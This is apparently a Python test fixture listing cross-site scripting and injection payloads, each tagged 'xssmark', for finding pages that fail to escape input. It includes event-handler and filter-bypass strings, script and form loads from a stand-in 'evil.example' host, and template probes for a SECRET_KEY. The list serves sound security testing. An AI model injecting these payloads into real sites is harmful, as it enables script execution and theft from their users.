"""Texts that run where a page forgets to escape.

What makes elements carries the attribute or name `xssmark`, so that a page which let one in is found
even where the content security policy kept it from running.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "xssmark"

PAYLOADS: Final = (
    # Elements.
    f"<script {MARK}>alert(1)</script>",
    f"<SCRIPT {MARK} SRC=//evil.example/x.js></SCRIPT>",
    f"<script {MARK}\t>alert`1`</script\t>",
    f"</script><script {MARK}>alert(1)</script>",
    f"<scr<script {MARK}>ipt>alert(1)</scr</script>ipt>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"<img {MARK} src=https://evil.example/pixel.gif>",
    f"<img/{MARK}/src=x/onerror=alert(1)//",
    f'"><img {MARK} src=x onerror=alert(1)>',
    f"'><img {MARK} src=x onerror=alert(1)>",
    f"<svg {MARK} onload=alert(1)>",
    f"<svg {MARK}><script>alert(1)</script></svg>",
    f"<svg {MARK}><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg {MARK}><a xlink:href="javascript:alert(1)"><text y="9">click</text></a></svg>',
    f"<svg {MARK}><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    f"<math {MARK}><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    f"<iframe {MARK} src=javascript:alert(1)></iframe>",
    f'<iframe {MARK} srcdoc="<script>alert(1)</script>"></iframe>',
    f"<object {MARK} data=javascript:alert(1)></object>",
    f"<embed {MARK} src=https://evil.example/x.swf>",
    f"<base {MARK} href=https://evil.example/>",
    f"<link {MARK} rel=stylesheet href=https://evil.example/x.css>",
    f"<style {MARK}>@import 'https://evil.example/x.css';*{{display:none}}</style>",
    f'<meta {MARK} http-equiv="refresh" content="0;url=https://evil.example/">',
    f"<form {MARK} action=https://evil.example/><button autofocus>go</button></form>",
    f"<input {MARK} autofocus onfocus=alert(1)>",
    f"<details {MARK} open ontoggle=alert(1)>",
    f"<video {MARK}><source onerror=alert(1)></video>",
    f"<body {MARK} onload=alert(1)>",
    f"<marquee {MARK} onstart=alert(1)>x</marquee>",
    f"<{MARK} onclick=alert(1) style=position:fixed;inset:0>x</{MARK}>",
    f"<template {MARK}><script>alert(1)</script></template>",
    f"<noscript><p title=\"</noscript><img {MARK} src=x onerror=alert(1)>\">",
    f"<!--><img {MARK} src=x onerror=alert(1)>-->",
    f"<![CDATA[<img {MARK} src=x onerror=alert(1)>]]>",
    f"</textarea><img {MARK} src=x onerror=alert(1)>",
    f"</title><img {MARK} src=x onerror=alert(1)>",
    f"&lt;img {MARK} src=x onerror=alert(1)&gt;",
    f"&#60;img {MARK} src=x onerror=alert(1)&#62;",
    f"\\u003cimg {MARK} src=x onerror=alert(1)\\u003e",
    f"%3Cimg {MARK} src=x onerror=alert(1)%3E",
    f"＜img {MARK} src=x onerror=alert(1)＞",
    # Attributes and scripts that a text may stand in.
    f'" autofocus onfocus=alert(1) {MARK}="',
    f"' autofocus onfocus=alert(1) {MARK}='",
    f"` onmouseover=alert(1) {MARK}=`",
    f"x onerror=alert(1) {MARK}",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "${alert(1)}",
    "javascript:alert(1)//https://ok.example",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    # Templates.
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= alert(1) %>#{alert(1)}[[${alert(1)}]]",
    '<b hx-get="https://evil.example/" hx-trigger="load" xssmark>x</b>',
    # Texts that are only odd.
    "\u202egpj.exe\u2066 مزامنة\u2069 العملاء \u200b\u200f\ufeff",
    "漢字" * 60 + "👩‍👩‍👧‍👦" * 5 + "\ufffd\u0085\u2028\u2029 é̷̡̛" + "W" * 60,
)  # fmt: skip
